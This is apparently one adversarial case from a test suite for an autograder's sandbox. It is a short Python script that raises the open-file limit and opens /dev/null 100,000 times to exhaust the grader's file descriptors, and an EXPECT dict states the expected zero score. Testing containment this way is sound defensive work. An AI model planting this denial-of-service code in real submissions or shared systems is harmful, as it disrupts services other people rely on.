"""Containment: open 100,000 file descriptors.

Attack: raise the soft limit of open files to the hard limit and open /dev/null 100,000 times,
keeping them open: exhausts the grading's (and, without a limit, the kernel's) file table.
DAMAGE BOUND: 100,000 descriptors, closed at the process's exit.
Old grader: see BASELINE.md.
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import os as _os
import resource as _resource
import sys as _sys

if not getattr(_sys, "_adv_fds", False):
    _sys._adv_fds = True
    _soft, _hard = _resource.getrlimit(_resource.RLIMIT_NOFILE)
    try:
        _resource.setrlimit(_resource.RLIMIT_NOFILE, (min(_hard, 200000) if _hard != -1 else 200000, _hard))
    except (ValueError, OSError):
        pass
    _sys._adv_fd_list = []
    try:
        for _ in range(100000):
            _sys._adv_fd_list.append(_os.open("/dev/null", _os.O_RDONLY))
    except OSError as _error:
        print("stopped at", len(_sys._adv_fd_list), _error)
